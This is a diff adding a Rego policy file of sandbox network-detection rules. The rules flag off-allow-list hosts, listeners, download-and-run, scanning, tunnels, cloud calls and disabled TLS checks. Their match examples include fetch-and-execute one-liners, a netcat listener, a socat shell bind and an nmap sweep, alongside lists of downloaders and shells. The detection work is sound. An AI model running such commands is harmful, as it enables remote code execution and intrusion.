@@ -1,0 +1,161 @@
+# METADATA
+# scope: package
+# title: Rules about network
+package caisson.rules.network
+
+# METADATA
+# title: Reaches a host that is not on the allow list
+# custom:
+#   id: SBX-NET-0001
+#   severity: high
+#   category: network
+#   cwe: ["CWE-918"]
+#   attack: ["T1071", "T1105"]
+#   remediation: "Ask for the host to be allowed (data/hosts.yaml), or bring the data with the run."
+#   match:
+#     - {"language": "bash", "code": "curl https://x.test/"}
+#     - {"language": "python", "code": "import requests\nrequests.get('https://x.test/a')"}
+#     - {"language": "javascript", "code": "fetch('https://x.test')"}
+#     - {"language": "python", "code": "import socket\ns=socket.socket()\ns.connect(('10.0.0.1',80))"}
+#   not_match:
+#     - {"language": "bash", "code": "echo https://x.test"}
+#     - {"language": "python", "code": "u='https://x.test'"}
+findings contains {"id": "SBX-NET-0001", "at": n.at, "msg": sprintf("%s %s (%s) by %s", [n.op, host(n), n.class, n.by])} if {
+	some class in data.settings.foreign_hosts
+	some op
+	op != "listen"
+	some n in input.net[class][op]
+}
+
+host(n) := n.host if n.host != ""
+
+host(n) := sprintf("a host that could not be told %s", [n.url]) if n.host == ""
+
+# METADATA
+# title: Waits for connections
+# custom:
+#   id: SBX-NET-0002
+#   severity: high
+#   category: network
+#   cwe: ["CWE-668"]
+#   attack: ["T1571"]
+#   remediation: "Use the files of the workspace to exchange data."
+#   match:
+#     - {"language": "bash", "code": "nc -l -p 4444"}
+#     - {"language": "python", "code": "import socket\ns=socket.socket()\ns.bind(('0.0.0.0',80))"}
+#   not_match:
+#     - {"language": "python", "code": "x.listen"}
+findings contains {"id": "SBX-NET-0002", "at": n.at, "msg": sprintf("listens on %s port %d by %s", [n.host, n.port, n.by])} if {
+	some class
+	some n in input.net[class].listen
+}
+
+findings contains {"id": "SBX-NET-0002", "at": a.at, "msg": sprintf("listens by %s", [a.by])} if {
+	some a in input.actions.listen
+}
+
+# METADATA
+# title: Downloads and runs
+# custom:
+#   id: SBX-NET-0003
+#   severity: critical
+#   category: execution
+#   cwe: ["CWE-494"]
+#   attack: ["T1105", "T1059"]
+#   remediation: "Read what you run: put it into the workspace first."
+#   match:
+#     - {"language": "bash", "code": "curl http://x.test/a.sh | sh"}
+#     - {"language": "bash", "code": "source <(curl -s http://x.test/a.sh)"}
+#     - {"language": "python", "code": "import requests\nexec(requests.get('http://x.test/a').text)"}
+#   not_match:
+#     - {"language": "bash", "code": "cat a | sort"}
+findings contains {"id": "SBX-NET-0003", "at": d.at, "msg": sprintf("code that comes from %s is run", [from])} if {
+	some kind in {"opaque_code", "opaque_command", "partial_code", "eval", "dyn_import"}
+	some d in input.dynamic[kind]
+	some from in d.from
+	startswith(from, "net")
+}
+
+findings contains {"id": "SBX-NET-0003", "at": p.at, "msg": sprintf("a download is piped into %s", [last])} if {
+	some p in input.pipelines
+	some first in p.names
+	first in {"curl", "wget", "aria2c", "lynx", "nc", "ncat"}
+	some last in p.names
+	last in {"sh", "bash", "dash", "ash", "zsh", "ksh", "python", "python3", "node", "perl", "ruby", "php"}
+}
+
+# METADATA
+# title: Scans or listens to the network
+# custom:
+#   id: SBX-NET-0004
+#   severity: high
+#   category: network
+#   cwe: ["CWE-200"]
+#   attack: ["T1046", "T1040"]
+#   remediation: "Do not probe hosts from a sandbox."
+#   match:
+#     - {"language": "bash", "code": "nmap 10.0.0.0/8"}
+#     - {"language": "bash", "code": "tcpdump -i eth0"}
+#   not_match:
+#     - {"language": "bash", "code": "ls"}
+findings contains {"id": "SBX-NET-0004", "at": n.at, "msg": sprintf("%s is scanned by %s", [n.host, n.by])} if {
+	some class
+	some n in input.net[class].scan
+}
+
+findings contains {"id": "SBX-NET-0004", "at": a.at, "msg": sprintf("%s", [concat(" ", [a.op, a.detail, a.by])])} if {
+	some op in ["sniff", "raw_packets"]
+	some a in input.actions[op]
+}
+
+# METADATA
+# title: Digs a tunnel
+# custom:
+#   id: SBX-NET-0005
+#   severity: high
+#   category: network
+#   cwe: ["CWE-923"]
+#   attack: ["T1572"]
+#   remediation: "Use the sandbox's own ways in and out."
+#   match:
+#     - {"language": "bash", "code": "socat TCP-LISTEN:80 EXEC:sh"}
+#     - {"language": "bash", "code": "ngrok http 80"}
+#   not_match:
+#     - {"language": "bash", "code": "ls"}
+findings contains {"id": "SBX-NET-0005", "at": a.at, "msg": sprintf("%s", [concat(" ", [a.op, a.detail, a.by])])} if {
+	some op in ["tunnel", "socket_pipe"]
+	some a in input.actions[op]
+}
+
+# METADATA
+# title: Talks to a cloud
+# custom:
+#   id: SBX-NET-0006
+#   severity: high
+#   category: network
+#   cwe: ["CWE-200"]
+#   attack: ["T1526"]
+#   remediation: "A sandbox has no cloud identity."
+#   match:
+#     - {"language": "bash", "code": "aws s3 ls"}
+#     - {"language": "python", "code": "import boto3\nboto3.client('s3')"}
+#   not_match:
+#     - {"language": "bash", "code": "ls"}
+findings contains {"id": "SBX-NET-0006", "at": a.at, "msg": sprintf("%s", [concat(" ", [a.op, a.detail, a.by])])} if {
+	some op in ["cloud"]
+	some a in input.actions[op]
+}
+
+# METADATA
+# title: Does not check who it talks to
+# custom:
+#   id: SBX-NET-0007
+#   severity: medium
+#   category: network
+#   cwe: ["CWE-295"]
+#   attack: ["T1557"]
+#   remediation: "Leave certificate checks on."
+findings contains {"id": "SBX-NET-0007", "at": a.at, "msg": sprintf("%s", [concat(" ", [a.op, a.detail, a.by])])} if {
+	some op in ["no_tls_check"]
+	some a in input.actions[op]
+}
